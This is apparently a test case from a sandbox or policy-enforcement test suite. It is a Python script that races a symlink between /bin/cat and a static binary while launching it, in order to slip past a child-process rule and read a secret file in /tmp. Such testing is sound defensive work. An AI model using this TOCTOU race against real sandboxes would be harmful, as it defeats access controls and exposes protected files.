# class: children
# rule: create_child_process read_write_tmp
# policy: child-allowed.yaml
# needs: gcc
# timeout: 60
# success: another thread points a program's name at a static one while it is started, and that
#   reads a file in /tmp
# proof: read
import os
import subprocess
import threading
import time

from attack import FILE, SECRET, attempt


@attempt
def steal():
    end = time.monotonic() + 4
    over = []
    os.symlink("/bin/cat", "turning")

    def turn():
        while not over and time.monotonic() < end:
            for target in (os.environ["ATTACK_STATIC"], "/bin/cat"):
                os.symlink(target, "next")
                os.replace("next", "turning")

    thread = threading.Thread(target=turn)
    thread.start()
    found = b""
    while time.monotonic() < end and SECRET.encode() not in found:
        try:
            done = subprocess.run(
                ["./turning", FILE], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
            )
            found = done.stdout
        except OSError:
            continue
    over.append(True)
    thread.join()
    return found
